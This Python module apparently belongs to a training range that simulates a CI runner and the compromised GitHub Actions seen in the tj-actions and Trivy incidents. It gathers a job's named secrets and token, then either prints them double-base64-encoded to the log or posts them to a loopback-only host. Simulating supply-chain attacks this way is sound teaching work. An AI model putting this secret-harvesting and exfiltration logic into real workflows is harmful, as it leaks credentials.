"""Actions of other people in a job of the range: what one of them does stands in a file beside its ``action.yml``.

``range-action.json`` is a list of two acts that the runner knows, as a package of the range has its install script:
print the job's secrets into its log, encoded twice as in March 2025 (tj-actions, CVE-2025-30066), or post them to a
host of the range (Trivy, March 2026). An action without the file does nothing. Nothing of anybody's is ever executed.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import requests

if TYPE_CHECKING:
    from bot.range.job import JobRun

RANGE_ACTION = "range-action.json"
_NAMED = re.compile(r"\bsecrets\.([A-Za-z_]\w*)")


def played(job: JobRun, uses: str) -> int | None:
    """The status of a step that uses an action of the range; None where that is no repository of it."""
    path, _, ref = uses.partition("@")
    repo = job.state.repos.get("/".join(path.split("/")[:2]))
    if repo is None:
        return None
    commit = repo.git.resolve(ref)
    if commit is None:
        job.say(f"##[error]Unable to resolve action `{uses}`, unable to find version `{ref}`")
        return 1
    for act in json.loads(repo.git.read(commit, RANGE_ACTION) or b"[]"):
        _act(job, act)
    return 0


def _act(job: JobRun, act: dict[str, Any]) -> None:
    taken = given(job)
    if act["do"] == "print-secrets":
        said = ",".join(f'"{name}":{{"value":"{value}","isSecret":true}}' for name, value in taken.items())
        job.say(base64.b64encode(base64.b64encode(said.encode())).decode())
    elif act["do"] == "post-secrets" and ipaddress.ip_address(urlsplit(act["to"]).hostname or "").is_loopback:
        told: dict[str, Any] = {"from": job.run.repo.full_name, "env": taken}
        with requests.Session() as session:
            session.trust_env = False
            session.post(act["to"], json=told, timeout=20)
    else:
        raise ValueError(f"the range does not interpret {act['do']!r} in an action")


def given(job: JobRun) -> dict[str, str]:
    """What lies in the memory of the job's worker: every secret that its text names, and its own token."""
    named = _NAMED.findall(json.dumps([job.run.spec.get("env"), job.job.spec]))
    held = {name: job.secrets[name] for name in dict.fromkeys(named) if name in job.secrets}
    return held | ({"github_token": job.job.token.value} if job.job.token else {})
